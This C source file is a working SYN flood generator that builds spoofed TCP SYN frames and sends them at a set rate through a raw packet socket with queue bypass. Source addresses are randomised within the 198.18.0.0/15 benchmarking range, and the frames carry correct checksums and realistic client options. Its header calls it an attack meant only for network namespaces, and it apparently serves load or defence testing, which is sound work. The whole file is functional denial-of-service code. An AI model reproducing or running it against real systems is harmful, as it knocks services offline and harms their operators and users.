/*
 * A SYN flood: SYNs from random addresses and ports at a steady rate, put straight onto an interface.
 *
 *   syn_flood INTERFACE MAC ADDRESS PORT RATE SECONDS
 *
 * Sources lie in 198.18.0.0/15, which RFC 2544 sets aside for such things. The SYNs are as a client's:
 * checksums right, with MSS, SACK, timestamps and window scale. At the end one line of JSON says what was
 * sent, what was refused because the interface's queue was full, and in how many seconds. For network
 * namespaces only: it is an attack.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#include "base/bytes.h"
#include "base/checksum.h"

enum {
	BATCH = 64,
	ETH = 14,
	IP = 20,
	TCP = 40, /* 20 of them options */
	FRAME = ETH + IP + TCP,
	SOURCES = 0xc6120000, /* 198.18.0.0/15 */
	SOURCE_MASK = 0x1ffff,
	SLICE_NS = 1000000, /* the rate is kept over a millisecond */
	SECOND_NS = 1000000000,
};

struct flood {
	int fd;
	struct sockaddr_ll to;
	uint8_t frames[BATCH][FRAME];
	struct iovec iov[BATCH];
	struct mmsghdr messages[BATCH];
	uint64_t random;
	uint64_t sent, refused;
};

static uint64_t next_random(struct flood *f)
{
	f->random ^= f->random << 13;
	f->random ^= f->random >> 7;
	f->random ^= f->random << 17;
	return f->random;
}

static uint64_t now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * SECOND_NS + (uint64_t)t.tv_nsec;
}

static void fail(const char *what)
{
	fprintf(stderr, "syn_flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void make_frame(uint8_t *frame, const uint8_t mac[6], in_addr_t to, uint16_t port)
{
	static const uint8_t options[] = {
		2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7
	};
	uint8_t *ip = frame + ETH, *tcp = ip + IP;

	memcpy(frame, mac, 6);
	frame[6] = 2; /* from a locally administered address */
	store_be16(frame + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	store_be16(ip + 2, IP + TCP);
	ip[6] = 0x40; /* DF */
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	memcpy(ip + 16, &to, 4);
	store_be16(tcp + 2, port);
	tcp[12] = TCP / 4 << 4;
	tcp[13] = 2; /* SYN */
	store_be16(tcp + 14, 64240);
	memcpy(tcp + 20, options, sizeof options);
}

static void set_checksum(uint8_t *field, uint32_t sum, const uint8_t *data, size_t len)
{
	uint16_t value;

	memset(field, 0, 2);
	value = checksum_finish(checksum_add(sum, data, len));
	memcpy(field, &value, 2);
}

/* Another source, port and sequence number. */
static void change_frame(struct flood *f, uint8_t *frame)
{
	uint8_t *ip = frame + ETH, *tcp = ip + IP;
	uint64_t r = next_random(f);
	uint8_t pseudo[4] = { 0, IPPROTO_TCP, 0, TCP };

	store_be32(ip + 12, (uint32_t)SOURCES | ((uint32_t)r & SOURCE_MASK));
	store_be16(tcp, (uint16_t)(1024 + (r >> 32) % 64000));
	store_be32(tcp + 4, (uint32_t)next_random(f));
	set_checksum(ip + 10, 0, ip, IP);
	set_checksum(tcp + 16, checksum_add(checksum_add(0, pseudo, sizeof pseudo), ip + 12, 8), tcp, TCP);
}

static void flood_init(struct flood *f, const char *interface, const uint8_t mac[6], in_addr_t to,
		       uint16_t port)
{
	int on = 1;

	memset(f, 0, sizeof *f);
	f->random = now_ns() | 1;
	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0); /* protocol 0: it receives nothing */
	if (f->fd < 0)
		fail("socket");
	f->to = (struct sockaddr_ll){ .sll_family = AF_PACKET,
				      .sll_ifindex = (int)if_nametoindex(interface) };
	if (f->to.sll_ifindex == 0)
		fail(interface);
	if (setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) < 0)
		fail("PACKET_QDISC_BYPASS");
	for (unsigned i = 0; i < BATCH; i++) {
		make_frame(f->frames[i], mac, to, port);
		f->iov[i] = (struct iovec){ f->frames[i], FRAME };
		f->messages[i].msg_hdr = (struct msghdr){ .msg_name = &f->to,
							  .msg_namelen = sizeof f->to,
							  .msg_iov = &f->iov[i],
							  .msg_iovlen = 1 };
	}
}

static void send_batch(struct flood *f, unsigned count)
{
	for (unsigned i = 0; i < count; i++)
		change_frame(f, f->frames[i]);
	for (unsigned done = 0; done < count;) {
		int n = sendmmsg(f->fd, f->messages + done, count - done, 0);

		if (n > 0) {
			done += (unsigned)n;
			f->sent += (unsigned)n;
		} else if (errno == ENOBUFS || errno == EAGAIN) {
			done++; /* the interface's queue is full: that one is lost */
			f->refused++;
		} else if (errno != EINTR) {
			fail("sendmmsg");
		}
	}
}

static void sleep_until(uint64_t ns)
{
	struct timespec t = { .tv_sec = (time_t)(ns / SECOND_NS), .tv_nsec = (long)(ns % SECOND_NS) };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL) == EINTR)
		;
}

/* What could not be sent in its slice for want of time is sent in the next ones. */
static void run(struct flood *f, uint64_t rate, uint64_t seconds)
{
	uint64_t start = now_ns(), end = start + seconds * SECOND_NS, tried = 0;

	for (uint64_t now = start; now < end; now = now_ns()) {
		uint64_t due = (now - start + SLICE_NS) * rate / SECOND_NS;

		if (tried >= due) {
			sleep_until(now + SLICE_NS);
			continue;
		}
		due = due - tried > BATCH ? BATCH : due - tried;
		send_batch(f, (unsigned)due);
		tried += due;
	}
	printf("{\"sent\": %" PRIu64 ", \"refused\": %" PRIu64 ", \"seconds\": %.3f}\n", f->sent, f->refused,
	       (double)(now_ns() - start) / (double)SECOND_NS);
}

static bool parse_mac(const char *text, uint8_t mac[6])
{
	return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
		      &mac[5]) == 6;
}

int main(int argc, char **argv)
{
	static struct flood flood;
	uint8_t mac[6];
	in_addr_t to;

	if (argc != 7 || !parse_mac(argv[2], mac) || inet_pton(AF_INET, argv[3], &to) != 1) {
		fprintf(stderr, "syn_flood INTERFACE MAC ADDRESS PORT RATE SECONDS\n");
		return 2;
	}
	flood_init(&flood, argv[1], mac, to, (uint16_t)atoi(argv[4]));
	run(&flood, strtoull(argv[5], NULL, 10), strtoull(argv[6], NULL, 10));
	return 0;
}
